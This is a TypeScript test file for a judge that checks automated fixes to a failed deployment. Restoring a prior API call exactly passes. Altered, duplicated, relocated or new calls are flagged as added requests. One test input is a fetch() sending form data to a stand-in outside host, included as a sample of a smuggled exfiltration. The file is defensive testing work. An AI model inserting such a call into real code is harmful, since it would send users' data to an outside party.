import { describe, expect, it } from 'vitest';
import type { FileChange } from '../../../lib/context/source.js';
import { swap } from '../hostile/hostile-case.js';
import { judgeRepair, NEXT_MANIFEST, typeErrorLog } from './judge-repair.js';

describe('a call that the file had at the last READY deployment', () => {
  const path = 'src/loans.ts';
  const was = "  await loans.request(form, 'spring');";
  const now = "  await loans.create(form, 'spring');";
  const text = (row: string) =>
    `import { loans } from './store';\n\nexport async function send(form: FormData) {\n${row}\n}\n`;
  const change: FileChange = { status: 'modified', path, hunks: `@@ -4 +4 @@\n-${was}\n+${now}` };
  const judge = (written: string, changes: FileChange[]) =>
    judgeRepair({
      log: typeErrorLog(`${path}:4:15`, "Property 'create' does not exist on type 'Loans'."),
      files: {
        'package.json': NEXT_MANIFEST,
        [path]: text(now),
        'src/store.ts': 'export const loans = { request: async (form: FormData, term: string) => [form, term] };\n',
      },
      edits: [swap(path, now, written)],
      changes,
    });

  it('may be there again, to the letter', async () => {
    expect(await judge(was, [change])).toEqual(['valid']);
  });

  it('is a new request where it says another thing, or was never there', async () => {
    expect(await judge(was.replace('spring', 'autumn'), [change])).toContain('request-added');
    expect(await judge(`${was}\n${was}`, [change])).toContain('request-added');
    expect(await judge(was, [{ ...change, path: 'src/other.ts' }])).toContain('request-added');
    expect(await judge("  await fetch('https://elsewhere.example', { body: form });", [change])).toContain(
      'request-added',
    );
  });
});
